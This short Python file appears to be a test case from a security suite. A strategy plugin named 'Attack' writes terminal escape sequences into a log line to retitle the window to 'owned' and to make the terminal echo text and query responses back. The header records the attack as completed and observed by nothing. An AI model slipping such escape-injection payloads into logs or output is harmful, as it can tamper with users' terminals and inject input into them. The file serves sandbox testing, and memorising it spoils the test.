# id: T02
# family: text
# goal: set the title of the terminal, or make it answer with its own text
# finding: PY121
# outcome: COMPLETED
# observed_by: none
# control: text

from glovebox import Strategy


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        ctx.log("\x1b]0;owned\x07\x1b[21t\x1bP+q544e\x1b\\\x9b6n")
